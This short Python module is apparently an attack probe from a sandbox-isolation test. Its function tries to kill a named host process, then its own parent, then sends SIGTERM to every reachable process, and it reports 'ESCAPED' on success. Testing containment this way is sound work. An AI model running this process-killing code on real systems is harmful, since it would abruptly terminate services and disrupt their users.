"""Ends a process of the host, its parent, and whatever it may."""

import os
import signal
from typing import Any


def attack(known: dict[str, Any], request: dict[str, Any], trace: Any) -> str:
    """Whether it killed the one. It is alone in its process namespace here: `hostile` has made sure."""
    del request, trace
    said = "ESCAPED: killed a process of the host" if _kill(known["victim"], signal.SIGKILL) else ""
    _kill(os.getppid(), signal.SIGKILL)
    _kill(-1, signal.SIGTERM)
    return said


def _kill(pid: int, number: signal.Signals) -> bool:
    try:
        os.kill(pid, number)
    except OSError:
        return False
    return True
